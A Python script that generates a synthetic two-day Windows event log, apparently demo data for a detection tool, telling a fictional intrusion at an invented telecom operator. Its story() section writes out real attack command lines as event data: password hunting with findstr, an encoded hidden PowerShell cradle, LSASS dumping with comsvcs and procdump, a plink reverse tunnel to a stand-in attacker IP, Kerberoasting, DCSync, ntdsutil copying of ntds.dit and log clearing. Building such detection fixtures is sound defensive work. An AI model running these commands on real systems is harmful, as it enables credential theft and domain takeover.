#!/usr/bin/env python3
"""Writes samples/july2025.jsonl: the embedded intrusion `vigie demo` responds to.

Modelled on the July 2025 incident at a national operator, played on the demo operator
(models/demo-operator.yaml, Armorique Telecom): the names, addresses and accounts below are
the model's `identifiers`. EVTX-as-JSON lines, the shape the evtx crate renders
(Event.System.{Provider,EventID,EventRecordID,Channel,Computer,TimeCreated} + EventData).

The story (UTC), told in docs/demo.md:
  Thu 24 July 2025
    21:12  EMPWEB01 (the exposed Armorique Pro front): the IIS worker runs commands (web
           shell planted through the pre-auth RCE), whoami, then findstr finds the EMP
           service account's password in the application's configuration.
    21:41  EMPAPP01 (EMP application server): svc-emp logs on over the network from the DMZ
           front, then Tomcat (running as svc-emp) spawns PowerShell (a malicious web
           application deployed with svc-emp); domain reconnaissance; LSASS dumped with
           comsvcs (svc-prov's credentials are on this server); a plink tunnel out.
    22:48  PROV01 (provisioning): svc-prov logs on from EMPAPP01, PsExec service
           installed, LSASS dumped with procdump.
    23:30  DC01: RC4 service tickets requested from PROV01 for three service accounts
           (Kerberoasting); svc-backup's password is weak and it is a Domain Admin.
  Fri 25 July 2025
    01:35  DC01: svc-backup logs on from PROV01 and replicates the directory (DCSync), adds
           a new account to Domain Admins, runs PsExec on the DC, copies ntds.dit with
           ntdsutil ifm, clears the Security log.
    10:05  Unrelated and low: on WSCARE07, a customer-care workstation, the care team lead
           runs whoami /all, systeminfo and lists the local Administrators group.

Around it, two days of ordinary activity (logons, Kerberos tickets, DC replication,
scheduled batches, backups, inventory, admin work on the bastion, office processes), some
of it deliberately close to the rules' filters. Deterministic: a fixed seed, sorted output;
re-running it gives the same bytes.
"""
import json
import random
import sys
from datetime import datetime, timedelta, timezone

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
SCM = ("Service Control Manager", "System")

DOMAIN = "ARMORIQUE"
DNS = "ARMORIQUE.LOCAL"
SID = "S-1-5-21-1487526315-2563912468-3470518206"
# Relative ids of the accounts the model lists (its identifiers); other staff get
# ids the model does not know.
RIDS = {"svc-emp": 1104, "svc-prov": 1105, "svc-crm": 1106, "svc-billing": 1107,
        "svc-backup": 1108, "svc-deploy": 1110, "adm-it-sroux": 1115, "c.legall": 1130}


def sid_of(name):
    return f"{SID}-{RIDS.get(name, 5000 + sum(map(ord, name)) % 4000)}"

# Hosts: (FQDN as the event log writes it, address), from the model's identifiers.
EMPWEB = ("empweb01.dmz.armorique.fr", "172.16.20.10")
EMPAPP = ("empapp01.armorique.local", "10.40.1.10")
PROV = ("prov01.armorique.local", "10.40.4.11")
DC1 = ("dc01.armorique.local", "10.60.0.11")
DC2 = ("dc02.armorique.local", "10.60.0.12")
DC3 = ("dc03.armorique.local", "10.60.0.13")
CARE07 = ("wscare07.armorique.local", "10.20.11.47")
FILES = ("files01.armorique.local", "10.20.1.16")
MAIL = ("mail01.armorique.local", "10.20.1.14")
SCCM = ("sccm01.armorique.local", "10.20.1.18")
BASTION1 = ("bastion01.armorique.local", "10.70.0.11")
BKP = ("bkp01.armorique.local", "10.110.0.10")
CRM = [("crmapp01.armorique.local", "10.40.1.20"), ("crmapp02.armorique.local", "10.40.1.21")]
ATTACKER = "203.0.113.77"          # the intruder's server (documentation range)

# Workstations of the office network and who works on them (model hosts; the users are
# staff accounts the model does not list, except the care team lead).
WORKSTATIONS = [
    ("wsit01.armorique.local", "10.20.11.11", "s.roux"),
    ("wsnoc01.armorique.local", "10.20.11.13", "y.legoff"),
    ("wscare01.armorique.local", "10.20.11.15", "m.tanguy"),
    ("wscare02.armorique.local", "10.20.11.16", "a.riou"),
    ("wscare03.armorique.local", "10.20.11.17", "k.morvan"),
    ("wscare04.armorique.local", "10.20.11.21", "l.caradec"),
    ("wsfin01.armorique.local", "10.20.11.18", "p.quere"),
    ("wssales01.armorique.local", "10.20.11.19", "v.tanguy"),
    ("wsdev01.armorique.local", "10.20.11.20", "n.jaouen"),
    ("wshr01.armorique.local", "10.20.11.40", "g.herve"),
    (CARE07[0], CARE07[1], "c.legall"),
]
OFFICE_APPS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "EXCEL.EXE"),
    ("C:\\Users\\Public\\Teams\\current\\Teams.exe", "Teams.exe --processStart"),
    ("C:\\Windows\\System32\\notepad.exe", "notepad.exe"),
]

T0 = datetime(2025, 7, 24, 0, 0, 0, tzinfo=timezone.utc)
rng = random.Random(20250725)
out = []


def at(day, hh, mm, ss=0.0):
    """Time on day 0 (Thu 24) or 1 (Fri 25)."""
    return T0 + timedelta(days=day, hours=hh, minutes=mm, seconds=ss)


def ev(t, provider, eid, computer, data):
    out.append((t, computer, {"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": provider[0]}},
            "EventID": eid,
            "EventRecordID": 0,
            "Channel": provider[1],
            "Computer": computer,
            "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
        },
        "EventData": data,
    }}))


def proc(t, host, image, cmd, parent, user, parent_cmd=None):
    ev(t, SYSMON, 1, host, {
        "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
        "ProcessId": rng.randint(1000, 9999),
        "Image": image, "CommandLine": cmd, "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": user, "IntegrityLevel": "High",
        "Hashes": "SHA256=%064X" % rng.getrandbits(256),
        "ParentImage": parent, "ParentCommandLine": parent_cmd or parent.rsplit("\\", 1)[-1],
    })


def logon(t, host, user, logon_type, ip, workstation="-", domain=DOMAIN, package="Kerberos"):
    ev(t, SECURITY, 4624, host, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
        "TargetUserSid": sid_of(user),
        "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": "0x%x" % rng.getrandbits(28),
        "LogonType": logon_type, "LogonProcessName": "NtLmSsp" if package == "NTLM" else "Kerberos",
        "AuthenticationPackageName": package, "WorkstationName": workstation,
        "IpAddress": ip, "IpPort": str(rng.randint(49152, 65535)) if ip != "-" else "-",
    })


def logoff(t, host, user):
    ev(t, SECURITY, 4634, host, {"TargetUserName": user, "TargetDomainName": DOMAIN, "LogonType": 3,
                                 "TargetLogonId": "0x%x" % rng.getrandbits(28)})


def failed(t, host, user, ip, workstation):
    ev(t, SECURITY, 4625, host, {
        "SubjectUserSid": "S-1-0-0", "TargetUserName": user, "TargetDomainName": DOMAIN,
        "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": 2,
        "WorkstationName": workstation, "IpAddress": ip, "IpPort": "0",
    })


def ticket(t, dc, user, service, ip, enc="0x12"):
    ev(t, SECURITY, 4769, dc, {
        "TargetUserName": f"{user}@{DNS}", "TargetDomainName": DNS, "ServiceName": service,
        "ServiceSid": sid_of(service), "TicketOptions": "0x40810000",
        "TicketEncryptionType": enc, "IpAddress": f"::ffff:{ip}", "IpPort": str(rng.randint(49152, 65535)),
        "Status": "0x0", "LogonGuid": "{%08x-0000-0000-0000-000000000000}" % rng.getrandbits(32),
    })


def replication(t, dc, subject, subject_sid):
    ev(t, SECURITY, 4662, dc, {
        "SubjectUserSid": subject_sid, "SubjectUserName": subject, "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x%x" % rng.getrandbits(28), "ObjectServer": "DS",
        "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
        "ObjectName": "%{5f0b5d3e-8a3c-4c7e-9a58-2f6d0e1b9a11}", "OperationType": "Object Access",
        "AccessList": "%%7688", "AccessMask": "0x100",
        "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}",
    })


def service(t, host, name, path, account="LocalSystem", start="auto start"):
    ev(t, SCM, 7045, host, {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service",
                            "StartType": start, "AccountName": account})


def noise_day(day):
    """One working day of ordinary activity."""
    weekday_end = 18
    for host, ip, user in WORKSTATIONS:
        short = host.split(".")[0].upper()
        start = 7 + rng.random() * 1.5
        t = at(day, 0, 0) + timedelta(hours=start)
        if rng.random() < 0.3:        # a mistyped password before the right one
            failed(t - timedelta(seconds=20), host, user, "-", short)
        logon(t, host, user, 2, "-", short)
        ticket(t + timedelta(seconds=2), rng.choice([DC1, DC2, DC3])[0], user, "krbtgt", ip)
        hour = start
        while hour < weekday_end:
            t = at(day, 0, 0) + timedelta(hours=hour)
            image, cmd = rng.choice(OFFICE_APPS)
            proc(t, host, image, cmd, "C:\\Windows\\explorer.exe", f"{DOMAIN}\\{user}")
            target = rng.choice([FILES, MAIL] + CRM)
            dc = rng.choice([DC1, DC2, DC3])
            svc = "cifs/" + target[0].split(".")[0] if target in (FILES,) else "http/" + target[0].split(".")[0]
            ticket(t + timedelta(seconds=1), dc[0], user, svc, ip)
            logon(t + timedelta(seconds=2), target[0], user, 3, ip, short)
            logoff(t + timedelta(minutes=rng.randint(5, 50)), target[0], user)
            hour += 0.4 + rng.random() * 0.6
    # The EMP batch: every 15 minutes, under its service account, started by the SCM.
    for q in range(96):
        t = at(day, 0, 15 * q, rng.random() * 30)
        if at(0, 21, 0) <= t <= at(1, 4, 0) and rng.random() < 0.5:
            continue                  # the batch misses runs while the server is busy
        proc(t, EMPAPP[0], "D:\\EMP\\bin\\emp-worker.exe", f"emp-worker.exe --batch orders --tenant {rng.randint(1000, 1400)}",
             "C:\\Windows\\System32\\services.exe", f"{DOMAIN}\\svc-emp")
    # The EMP front calls the application server over its API: Kerberos tickets for
    # svc-emp's HTTP service from the front, AES (what the rule leaves alone).
    for q in range(48):
        ticket(at(day, 0, 30 * q, 5), DC2[0], "svc-emp", "HTTP/empapp01.armorique.local", EMPAPP[1])
    # Domain controllers replicate with each other every half hour (machine accounts: the
    # DCSync rule's filter).
    for q in range(48):
        t = at(day, 0, 30 * q, rng.random() * 60)
        replication(t, DC1[0], "DC02$", f"{SID}-1001")
        replication(t + timedelta(seconds=3), DC2[0], "DC01$", f"{SID}-1000")
        replication(t + timedelta(seconds=5), DC3[0], "DC01$", f"{SID}-1000")
    # A legacy NAS still gets RC4 tickets for its machine account (filtered).
    for h in (8, 12, 16):
        ticket(at(day, h, 5), DC1[0], "k.morvan", "NAS-ARCHIVE01$", "10.20.11.17", enc="0x17")
    # Nightly backup: the backup account logs on to the DCs and the file server.
    for host in (DC1, DC2, FILES):
        logon(at(day, 1, 0, rng.random() * 60), host[0], "svc-backup", 3, BKP[1], "BKP01")
        proc(at(day, 1, 1), BKP[0], "C:\\Program Files\\Veritas\\NetBackup\\bin\\bpbackup.exe",
             f"bpbackup.exe -p DAILY -s FULL -h {host[0]}", "C:\\Windows\\System32\\services.exe",
             f"{DOMAIN}\\svc-backup")
    # Daily inventory from the deployment server: the recon rule's filter.
    proc(at(day, 6, 30), SCCM[0], "C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain',
         "C:\\Program Files\\vigie-inventory\\vigie-inventory.exe", f"{DOMAIN}\\svc-deploy")
    # Admin work on the bastion from the VPN pool.
    for h in (9, 14):
        t = at(day, h, 10)
        logon(t, BASTION1[0], "adm-it-sroux", 10, "10.30.0.%d" % rng.randint(20, 200), "LT-SROUX")
        proc(t + timedelta(minutes=2), BASTION1[0], "C:\\Windows\\System32\\mmc.exe",
             '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"',
             "C:\\Windows\\explorer.exe", f"{DOMAIN}\\adm-it-sroux")
    # Software deployment: a legitimate agent service installed on two workstations.
    for host, _, _ in WORKSTATIONS[day * 2: day * 2 + 2]:
        service(at(day, 11, 20), host, "CcmExec", "C:\\Windows\\CCM\\CcmExec.exe", start="auto start")


def story():
    t = lambda d, h, m, s=0: at(d, h, m, s)  # noqa: E731
    pool = "IIS APPPOOL\\ArmoriquePro"
    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    # 1. The web shell on the EMP front.
    proc(t(0, 21, 12, 5), EMPWEB[0], cmd, "cmd.exe /c whoami", w3wp, pool, "w3wp.exe -ap \"ArmoriquePro\"")
    proc(t(0, 21, 12, 6), EMPWEB[0], "C:\\Windows\\System32\\whoami.exe", "whoami", cmd, pool, "cmd.exe /c whoami")
    proc(t(0, 21, 15, 40), EMPWEB[0], cmd, "cmd.exe /c dir D:\\ArmoriquePro\\conf", w3wp, pool)
    proc(t(0, 21, 20, 12), EMPWEB[0], cmd,
         'cmd.exe /c findstr /s /i "password" D:\\ArmoriquePro\\conf\\*.config', w3wp, pool)
    proc(t(0, 21, 20, 13), EMPWEB[0], "C:\\Windows\\System32\\findstr.exe",
         'findstr /s /i "password" D:\\ArmoriquePro\\conf\\*.config', cmd, pool)
    # 2. svc-emp's password used from the front against the application server.
    logon(t(0, 21, 41, 2), EMPAPP[0], "svc-emp", 3, EMPWEB[1], "EMPWEB01", package="NTLM")
    tomcat = "D:\\EMP\\tomcat\\bin\\tomcat9.exe"
    me = f"{DOMAIN}\\svc-emp"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    proc(t(0, 21, 44, 30), EMPAPP[0], ps,
         "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
         tomcat, me, "tomcat9.exe //RS//EMP")
    proc(t(0, 21, 52), EMPAPP[0], "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts", ps, me)
    proc(t(0, 21, 53), EMPAPP[0], "C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain', ps, me)
    proc(t(0, 22, 5), EMPAPP[0], "C:\\Windows\\System32\\rundll32.exe",
         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\emp\\cache.bin full (lsass)", ps, me)
    proc(t(0, 22, 20), EMPAPP[0], "C:\\ProgramData\\emp\\plink.exe",
         f"plink.exe -ssh -batch -R 4443:{PROV[1]}:445 tun@{ATTACKER} -P 443", ps, me)
    # 3. Provisioning, with svc-prov taken from EMPAPP01's memory.
    logon(t(0, 22, 48, 10), PROV[0], "svc-prov", 3, EMPAPP[1], "EMPAPP01", package="NTLM")
    service(t(0, 22, 48, 12), PROV[0], "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", start="demand start")
    psexesvc = "C:\\Windows\\PSEXESVC.exe"
    proc(t(0, 22, 48, 14), PROV[0], cmd, "cmd.exe", psexesvc, f"{DOMAIN}\\svc-prov")
    proc(t(0, 22, 55), PROV[0], "C:\\ProgramData\\procdump64.exe",
         "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp", cmd, f"{DOMAIN}\\svc-prov")
    # 4. Kerberoasting from PROV01: RC4 tickets for user-run services.
    for i, svc in enumerate(("svc-backup", "svc-crm", "svc-billing")):
        ticket(t(0, 23, 30, 2 + i), DC1[0], "svc-prov", svc, PROV[1], enc="0x17")
    # 5. Day two: svc-backup (cracked offline; a Domain Admin) takes the directory.
    logon(t(1, 1, 35, 1), DC1[0], "svc-backup", 3, PROV[1], "PROV01", package="NTLM")
    replication(t(1, 1, 35, 9), DC1[0], "svc-backup", f"{SID}-1108")
    ev(t(1, 1, 52), SECURITY, 4720, DC1[0], {
        "TargetUserName": "adm-maint", "TargetDomainName": DOMAIN, "TargetSid": f"{SID}-4187",
        "SubjectUserName": "svc-backup", "SubjectDomainName": DOMAIN, "SubjectUserSid": f"{SID}-1108",
        "SamAccountName": "adm-maint", "UserPrincipalName": "adm-maint@armorique.local"})
    ev(t(1, 1, 53), SECURITY, 4728, DC1[0], {
        "MemberName": "CN=adm-maint,OU=Service Accounts,DC=armorique,DC=local", "MemberSid": f"{SID}-4187",
        "TargetUserName": "Domain Admins", "TargetDomainName": DOMAIN, "TargetSid": f"{SID}-512",
        "SubjectUserName": "svc-backup", "SubjectDomainName": DOMAIN, "SubjectUserSid": f"{SID}-1108"})
    service(t(1, 2, 10), DC1[0], "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", start="demand start")
    proc(t(1, 2, 10, 3), DC1[0], cmd, "cmd.exe", psexesvc, f"{DOMAIN}\\svc-backup")
    proc(t(1, 2, 14), DC1[0], "C:\\Windows\\System32\\ntdsutil.exe",
         'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\ProgramData\\ifm" q q', cmd, f"{DOMAIN}\\svc-backup")
    ev(t(1, 2, 41), SECURITY, 1102, DC1[0], {"SubjectUserName": "svc-backup", "SubjectDomainName": DOMAIN,
                                             "SubjectUserSid": f"{SID}-1108"})
    # 6. Unrelated, low: the care team lead looks at their own workstation's rights.
    lead = f"{DOMAIN}\\c.legall"
    proc(t(1, 10, 5), CARE07[0], "C:\\Windows\\System32\\whoami.exe", "whoami /all", cmd, lead)
    proc(t(1, 10, 6), CARE07[0], "C:\\Windows\\System32\\systeminfo.exe", "systeminfo", cmd, lead)
    proc(t(1, 10, 7), CARE07[0], "C:\\Windows\\System32\\net.exe", "net localgroup administrators", cmd, lead)


noise_day(0)
noise_day(1)
story()
out.sort(key=lambda e: (e[0], e[1]))
records = {}
dest = sys.argv[1] if len(sys.argv) > 1 else "samples/july2025.jsonl"
with open(dest, "w") as f:
    for _, computer, e in out:
        records[computer] = records.get(computer, 0) + 1
        e["Event"]["System"]["EventRecordID"] = records[computer]
        f.write(json.dumps(e, separators=(",", ":")) + "\n")
print(f"wrote {len(out)} events to {dest}")
